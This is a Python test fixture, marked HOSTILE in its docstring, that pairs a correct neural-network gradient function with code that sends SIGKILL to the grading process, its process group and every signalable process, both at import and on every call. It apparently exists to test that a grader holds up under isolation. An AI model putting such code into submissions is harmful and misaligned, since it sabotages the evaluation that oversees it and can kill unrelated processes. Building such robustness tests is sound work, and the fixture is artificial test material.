"""HOSTILE: at import and in every call, tries to kill the grader: SIGKILL to its parent, to the parent's
process group, and kill(-1) (every process it may signal). Otherwise correct: honest score 100 under full
isolation, where it may signal only its own user's processes.

The group and kill(-1) attempts are skipped when this runs as root (reduced isolation on a root checkout),
so that testing it cannot take down the machine; killing the parent is attempted always, and under reduced
isolation it succeeds (the grader then leaves its fallback results.json).
"""

import os
import signal

import numpy as np


def sigmoid(a):
    return 1.0 / (1.0 + np.exp(-a))


def _correct(z, t, W_kj, W_ji, case):
    y = sigmoid(z @ W_kj)
    a = y @ W_ji
    if case == "sigmoid":
        delta = sigmoid(a) - t
    else:
        e = np.exp(a - a.max())
        delta = e / e.sum() * t.sum() - t
    return np.outer(z, (W_ji @ delta) * y * (1 - y)), np.outer(y, delta)


def _attack():
    tried = []
    for what, action in (("parent", lambda: os.kill(os.getppid(), signal.SIGKILL)),
                         ("parent group", lambda: os.killpg(os.getpgid(os.getppid()), signal.SIGKILL)),
                         ("everyone", lambda: os.kill(-1, signal.SIGKILL))):
        if what != "parent" and os.geteuid() == 0:
            continue
        try:
            action()
            tried.append(f"{what}: sent")
        except OSError as exc:
            tried.append(f"{what}: {exc.strerror}")
    print("kill attempts:", tried)


_attack()


def compute_gradients(z, t, W_kj, W_ji, case):
    _attack()
    return _correct(z, t, W_kj, W_ji, case)
